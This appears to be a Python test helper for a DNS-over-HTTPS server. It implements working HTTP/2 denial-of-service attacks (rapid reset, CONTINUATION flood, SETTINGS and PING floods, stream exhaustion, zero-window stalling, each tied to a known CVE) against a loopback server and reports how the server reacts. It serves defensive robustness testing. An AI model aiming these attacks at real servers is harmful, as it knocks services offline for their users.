#!/usr/bin/env python3
"""The known HTTP/2 attacks on a DNS-over-HTTPS server, one per run, for
tests/it/encrypted/abuse.rs: it runs the attack against the server on loopback and prints
what the server did, as JSON, on one line.

    python3 h2_attack.py ATTACK --port PORT --ca CA_PEM [--count N] [--seconds S]

Attacks:
  rapid-reset      HEADERS then RST_STREAM(CANCEL), COUNT pairs on one connection
                   (CVE-2023-44487)
  continuation     one HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB
                   without end, up to COUNT frames (CVE-2024-27316 and kin)
  settings-flood   COUNT SETTINGS frames, none of their ACKs read (CVE-2019-9515)
  ping-flood       COUNT PING frames, none of their ACKs read (CVE-2019-9512)
  streams          COUNT requests opened at once whose bodies never come (more than
                   SETTINGS_MAX_CONCURRENT_STREAMS)
  zero-window      SETTINGS_INITIAL_WINDOW_SIZE 0, then GETs for SECONDS with the window
                   never opened, so every answer waits in the server (CVE-2019-9517)

The report: frames sent, whether and how the server ended the connection (GOAWAY code,
close), RST_STREAM codes received, DATA frames received. Needs the `h2` package (PyPI),
which brings hpack and hyperframe. Traffic goes to 127.0.0.1 only.
"""

import argparse
import base64
import json
import socket
import ssl
import struct
import threading
import time

import hpack
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def dns_query(name="web-0.nginx.demo.svc.cluster.local", qtype=1):
    """A DNS query (ID 0, RD) for `name`, as RFC 8484 GETs carry it."""
    message = struct.pack(">HHHHHH", 0, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        message += bytes([len(label)]) + label.encode()
    return message + b"\0" + struct.pack(">HH", qtype, 1)


class Connection:
    """One TLS connection speaking raw HTTP/2 frames, with a reader thread that records what
    the server sends."""

    def __init__(self, port, ca, settings=None, reading=True):
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock = context.wrap_socket(raw, server_hostname="dns.test")
        assert self.sock.selected_alpn_protocol() == "h2", "the server speaks h2"
        self.encoder = hpack.Encoder()
        self.lock = threading.Lock()
        self.report = {"goaway": None, "closed": False, "resets": {}, "data": 0, "headers": 0,
                       "settings": 0, "pings": 0}
        settings_frame = SettingsFrame(0)
        settings_frame.settings = settings or {}
        self.sock.sendall(PREFACE + settings_frame.serialize())
        self.reader = threading.Thread(target=self.read, daemon=True)
        self.reading = False
        if reading:
            self.start_reading()

    def start_reading(self):
        if not self.reading:
            self.reading = True
            self.reader.start()

    def read(self):
        buffer = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                    if len(buffer) < 9 + length:
                        break
                    frame.parse_body(memoryview(buffer[9:9 + length]))
                    buffer = buffer[9 + length:]
                    self.record(frame)
        except (OSError, ValueError):
            pass
        with self.lock:
            self.report["closed"] = True

    def record(self, frame):
        with self.lock:
            if isinstance(frame, GoAwayFrame):
                self.report["goaway"] = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                code = str(frame.error_code)
                self.report["resets"][code] = self.report["resets"].get(code, 0) + 1
            elif isinstance(frame, DataFrame):
                self.report["data"] += 1
            elif isinstance(frame, HeadersFrame):
                self.report["headers"] += 1
            elif isinstance(frame, SettingsFrame) and "ACK" in frame.flags:
                self.report["settings"] += 1
            elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
                self.report["pings"] += 1
        # Settings from the server are acknowledged, as a client must.
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            ack = SettingsFrame(0)
            ack.flags.add("ACK")
            self.send(ack.serialize())

    def send(self, data):
        """Sends `data`; False once the server has closed the connection or stopped reading
        for 5 s."""
        try:
            self.sock.sendall(data)
            return True
        except (OSError, ValueError):
            return False

    def request(self, stream, method="GET", end_stream=True, query=None):
        path = "/dns-query"
        if method == "GET":
            encoded = base64.urlsafe_b64encode(query or dns_query()).decode().rstrip("=")
            path += "?dns=" + encoded
        headers = [(":method", method), (":scheme", "https"), (":authority", "dns.test"),
                   (":path", path), ("accept", "application/dns-message")]
        if method == "POST":
            headers.append(("content-type", "application/dns-message"))
        frame = HeadersFrame(stream)
        frame.data = self.encoder.encode(headers)
        frame.flags.add("END_HEADERS")
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def finish(self, linger=1.0):
        """Waits up to `linger` s for the server's last frames, then the report."""
        self.start_reading()
        self.reader.join(linger)
        with self.lock:
            return dict(self.report)


def rapid_reset(conn, args):
    sent = 0
    batch = 50
    while sent < args.count:
        data = b""
        for _ in range(batch):
            stream = 1 + 2 * sent
            reset = RstStreamFrame(stream)
            reset.error_code = CANCEL
            data += conn.request(stream) + reset.serialize()
            sent += 1
        if not conn.send(data):
            break
    return {"sent": sent}


def continuation(conn, args):
    first = HeadersFrame(1)
    first.data = conn.encoder.encode([(":method", "GET"), (":scheme", "https"),
                                      (":path", "/dns-query")])
    if not conn.send(first.serialize()):
        return {"sent": 0}
    sent = 0
    junk = conn.encoder.encode([("x-flood", "a" * 16000)])
    while sent < args.count:
        frame = ContinuationFrame(1)
        frame.data = junk
        if not conn.send(frame.serialize()):
            break
        sent += 1
    return {"sent": sent}


def flood(conn, args, make):
    """Frames from `make` without reading what the server answers: once its answers fill the
    socket buffers, a server that does not queue them without bound stops reading, and the
    flood blocks ("blocked": no frame taken for 3 s)."""
    conn.sock.settimeout(3)
    sent, blocked = 0, False
    while sent < args.count:
        data = b"".join(make(sent + i) for i in range(100))
        if not conn.send(data):
            blocked = True
            break
        sent += 100
    conn.sock.settimeout(10)
    return {"sent": sent, "blocked": blocked}


def settings_flood(conn, args):
    def make(n):
        frame = SettingsFrame(0)
        frame.settings = {SettingsFrame.MAX_CONCURRENT_STREAMS: 100 + n % 7}
        return frame.serialize()
    return flood(conn, args, make)


def ping_flood(conn, args):
    return flood(conn, args, lambda n: PingFrame(0, opaque_data=struct.pack(">Q", n)).serialize())


def streams(conn, args):
    data = b"".join(conn.request(1 + 2 * n, method="POST", end_stream=False)
                    for n in range(args.count))
    conn.send(data)
    time.sleep(1)
    return {"sent": args.count}


def zero_window(conn, args):
    deadline = time.monotonic() + args.seconds
    sent = 0
    big = dns_query("db.demo.svc.cluster.local")
    while time.monotonic() < deadline:
        data = b"".join(conn.request(1 + 2 * (sent + i), query=big) for i in range(20))
        if not conn.send(data):
            break
        sent += 20
        time.sleep(0.01)
    return {"sent": sent}


ATTACKS = {
    # name: (attack, the client's SETTINGS, whether its answers are read meanwhile)
    "rapid-reset": (rapid_reset, None, True),
    "continuation": (continuation, None, True),
    "settings-flood": (settings_flood, None, False),
    "ping-flood": (ping_flood, None, False),
    "streams": (streams, None, True),
    "zero-window": (zero_window, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}, True),
}


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca", required=True)
    p.add_argument("--count", type=int, default=10000)
    p.add_argument("--seconds", type=float, default=3)
    args = p.parse_args()
    attack, settings, reading = ATTACKS[args.attack]
    conn = Connection(args.port, args.ca, settings, reading)
    started = time.monotonic()
    report = attack(conn, args)
    # Attacks the server answers by closing: its last frames and its close may take a while
    # when the machine is busy (the whole test suite at once on two cores), and waiting
    # ends as soon as the connection does.
    closes = args.attack in ("rapid-reset", "continuation")
    report.update(conn.finish(linger=max(args.seconds, 1.0) if closes else 1.0))
    report["seconds"] = round(time.monotonic() - started, 3)
    # Kept open no longer than the attack.
    try:
        conn.sock.close()
    except OSError:
        pass
    print(json.dumps(report))


if __name__ == "__main__":
    main()
